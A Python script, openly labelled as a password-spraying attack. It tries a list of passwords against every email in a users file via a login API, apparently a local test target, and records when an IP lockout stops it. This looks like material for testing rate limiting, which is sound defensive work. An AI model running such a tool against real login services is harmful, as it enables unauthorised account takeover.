import argparse
import json
import time
from pathlib import Path

import requests


def load_users(users_path: Path) -> list[dict]:
    users = json.loads(users_path.read_text())
    return users


def spray(args):
    users = load_users(Path(args.users))
    passwords = [p for p in args.passwords.split(",") if p]
    session = requests.Session()
    total = 0
    start = time.time()
    for pwd in passwords:
        for user in users:
            total += 1
            resp = session.post(f"{args.base}/login", json={"email": user["email"], "password": pwd}, timeout=5)
            if resp.status_code == 429:
                # the address is locked, every further email would be refused too
                print(f"[{total}] {user['email']}:{pwd} -> ip locked, retry after {resp.headers.get('Retry-After')}s")
                print(f"Stopped after {total} attempts in {time.time() - start:.2f}s")
                return
            print(f"[{total}] {user['email']}:{pwd} -> {resp.status_code}")
            if resp.status_code == 200:
                duration = time.time() - start
                print(f"SUCCESS {user['email']} with {pwd} after {total} attempts in {duration:.2f}s")
                return
    print("No success")


def main():
    parser = argparse.ArgumentParser(description="Password spraying attack from a single address")
    parser.add_argument("--users", default="data/users.json", help="path to users json")
    parser.add_argument("--passwords", required=True, help="comma-separated password list to try")
    parser.add_argument("--base", default="http://127.0.0.1:8000", help="API base URL")
    args = parser.parse_args()
    spray(args)


if __name__ == "__main__":
    main()
